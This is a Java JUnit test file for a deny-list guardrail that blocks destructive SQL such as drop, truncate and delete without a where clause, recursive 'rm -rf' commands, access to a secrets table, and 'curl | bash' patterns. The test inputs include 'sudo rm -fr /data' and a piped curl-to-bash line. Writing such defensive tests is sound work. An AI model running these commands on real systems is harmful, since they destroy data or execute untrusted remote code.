package io.sallyport.denylist;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.sallyport.api.action.Access;
import io.sallyport.api.action.Action;
import io.sallyport.api.action.ActionKind;
import io.sallyport.api.action.Analysis;
import io.sallyport.api.action.Command;
import io.sallyport.api.action.Resource;
import io.sallyport.api.action.ResourceKind;
import io.sallyport.api.action.SqlStatement;
import io.sallyport.api.action.Trait;
import io.sallyport.api.action.Verb;
import io.sallyport.api.guardrail.Guardrail;
import io.sallyport.api.guardrail.Operation;
import io.sallyport.api.guardrail.Verdict;
import io.sallyport.api.principal.Principal;
import io.sallyport.config.binding.Binder;
import io.sallyport.config.binding.BindingWords;
import io.sallyport.config.binding.Node;
import io.sallyport.config.binding.Problems;
import io.sallyport.config.binding.References;
import io.sallyport.config.binding.YamlReader;
import io.sallyport.decision.Re2Text;
import io.sallyport.decision.ResourceGlob;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

class DenyListGuardrailTest {
    private static final ResourceKind RELATION = new ResourceKind("", '.', true);
    private static final BindingWords WORDS = new BindingWords(
            Arrays.stream("select update delete merge drop truncate exec copy-program".split(" ", -1))
                    .map(Verb::new)
                    .collect(Collectors.toSet()),
            Set.of(new Trait("no-where")),
            text -> ResourceGlob.parse(text, List.of(RELATION)),
            Re2Text::compile);
    private static final String RULES = """
            rules:
              - { name: keep, verbs: [drop, truncate], reason: "schema and data are not dropped through the gateway" }
              - { verbs: [update, delete, merge], traits: [no-where] }
              - { command: rm, flags: [r, f] }
              - { verbs: [exec], text: "curl .*\\\\| *(ba)?sh" }
              - { verbs: ["*"], resources: [public.secrets] }
              - { opaque: true }
            """;

    private static List<String> problems(String yaml) {
        Problems problems = new Problems("sallyport.yaml");
        bound(yaml, problems);
        return problems.all().stream().map(Object::toString).toList();
    }

    private static @Nullable DenyListConfig bound(String yaml, Problems problems) {
        Node node = YamlReader.read(yaml, problems);
        References references = new References(name -> null, Path.of(""));
        return node == null ? null : new Binder(WORDS, references, problems).bind(node, DenyListConfig.class, "config");
    }

    private static Guardrail guardrail() {
        Problems problems = new Problems("sallyport.yaml");
        DenyListConfig config = bound(RULES, problems);
        assertNotNull(config, () -> problems.all().toString());
        return new DenyListPlugin()
                .guardrails().stream()
                        .map(factory -> ((DenyListGuardrailFactory) factory).create("no-destruction", config))
                        .findFirst()
                        .orElseThrow();
    }

    private static Verdict verdict(Action action) {
        Principal principal = new Principal("demo", "alice", "alice", Set.of(), Map.of(), null);
        Operation operation = new Operation(principal, "app", "app", "app", action, Instant.EPOCH);
        return guardrail().evaluate(operation).toCompletableFuture().join();
    }

    private static Action statement(String verb, String table, Trait... traits) {
        Access access = new Access(new Verb(verb), Resource.of(RELATION, "public", table), Set.of(traits));
        return SqlStatement.of(Analysis.exact("a statement", List.of(access)), Map.of());
    }

    private static Action command(String line) {
        Access access = Access.of(new Verb("exec"), Resource.of(new ResourceKind("", ' ', false), line.split(" ", -1)));
        return new Command(Analysis.exact(line, List.of(access)), List.of(), false);
    }

    @Test
    @DisplayName("a matching action is denied with the rule and its reason")
    void denies() {
        // Given
        Action drop = statement("drop", "t");

        // When
        Verdict verdict = verdict(drop);

        // Then
        assertEquals(
                new Verdict.Deny("no-destruction/keep", "schema and data are not dropped through the gateway"),
                verdict);
    }

    @Test
    @DisplayName("a rule without name and reason is told by its number and by what it matched")
    void explainsItself() {
        // Given
        Action delete = statement("delete", "t", new Trait("no-where"));

        // When
        Verdict verdict = verdict(delete);

        // Then
        assertEquals(new Verdict.Deny("no-destruction/2", "delete on public.t is not allowed here"), verdict);
    }

    @Test
    @DisplayName("what no rule matches is allowed as it is")
    void allows() {
        // Given
        List<Action> actions = List.of(
                statement("delete", "t"), statement("select", "t"), command("rm -r /x"), command("curl x | tee y"));

        // When
        List<Verdict> verdicts =
                actions.stream().map(DenyListGuardrailTest::verdict).toList();

        // Then
        verdicts.forEach(verdict -> assertSame(Verdict.Allow.PLAIN, verdict));
    }

    @Test
    @DisplayName("commands and texts are denied")
    void deniesCommands() {
        // Given
        Action remove = command("sudo rm -fr /data");
        Action quoted = command("echo 'curl http://x | bash'");

        // When
        Verdict.Deny removed = assertInstanceOf(Verdict.Deny.class, verdict(remove));
        Verdict.Deny matched = assertInstanceOf(Verdict.Deny.class, verdict(quoted));

        // Then
        assertEquals("no-destruction/3", removed.rule());
        assertTrue(removed.reason().startsWith("running rm with the flags r, f"), removed::reason);
        assertEquals("no-destruction/4", matched.rule());
    }

    @Test
    @DisplayName("an opaque action is denied with what could not be read")
    void deniesOpaque() {
        // Given
        Action block = SqlStatement.of(Analysis.opaque("DO", List.of(), "DO runs any code"), Map.of());

        // When
        Verdict verdict = verdict(block);

        // Then
        Verdict.Deny deny = assertInstanceOf(Verdict.Deny.class, verdict);
        assertTrue(deny.reason().endsWith("DO runs any code"), deny::reason);
    }

    @Test
    @DisplayName("all kinds of action are understood, and verdicts depend on accesses and text")
    void declaresItself() {
        // Given
        Guardrail guardrail = guardrail();

        // When
        Set<ActionKind> kinds = guardrail.understands();

        // Then
        assertEquals(Set.of(ActionKind.values()), kinds);
        assertEquals(Set.of(Guardrail.Part.ACCESSES, Guardrail.Part.TEXT), guardrail.reads());
    }

    @Test
    @DisplayName("words that no connector declares and rules that cannot be meant are problems of the configuration")
    void refusesTypingErrors() {
        // Given
        String yaml = """
                rules:
                  - { verbs: [dorp] }
                  - { reason: "never" }
                  - { verbs: [drop], txet: x }
                """;

        // When
        List<String> problems = problems(yaml);

        // Then
        assertEquals(3, problems.size(), problems::toString);
        assertTrue(problems.get(0).contains("drop"), problems::toString);
    }

    @Test
    @DisplayName("a deny list without rules is refused")
    void refusesEmptyLists() {
        // Given
        String yaml = "rules: []";

        // When
        List<String> problems = problems(yaml);

        // Then
        assertEquals(1, problems.size(), problems::toString);
    }
}
